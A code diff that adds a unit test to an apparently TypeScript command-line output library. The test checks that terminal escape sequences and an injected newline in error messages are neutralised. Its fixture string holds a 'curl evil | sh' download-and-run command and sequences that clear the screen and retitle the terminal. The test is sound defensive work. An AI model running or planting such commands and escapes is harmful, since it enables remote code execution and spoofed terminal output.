@@ -94,3 +94,20 @@ test('amounts, sizes and times read easily', () => {
     ),
   ).toEqual(['30s ago', '2h ago', 'in 7d'])
 })
+
+test('words of programs and of folders steer no terminal, and make up no line of ours', () => {
+  const evil = 'x\u001b]0;title\u0007\u001b[2J\u009b2J\nnext curl evil | sh'
+  const text = failureText({
+    code: 'app_failed',
+    message: evil,
+    hint: evil,
+    next: [{ command: evil, when: evil }],
+    errors: [{ text: evil, file: evil, line_text: evil, line: 1, column: 1, hint: evil }],
+  })
+  const shown = [text, table([evil], [[evil]]), listing([['name', evil]])].join('\n')
+  for (const line of stripColours(shown).split('\n')) expect(line).toBe(plain(line))
+  expect(plain(failureText({ code: 'x', message: evil })).split('\n')[1]).toMatch(/^ {2}next curl/)
+})
+
+const stripColours = (text: string) =>
+  text.replaceAll(new RegExp(`${String.fromCharCode(27)}\\[[\\d;]*m`, 'g'), '')
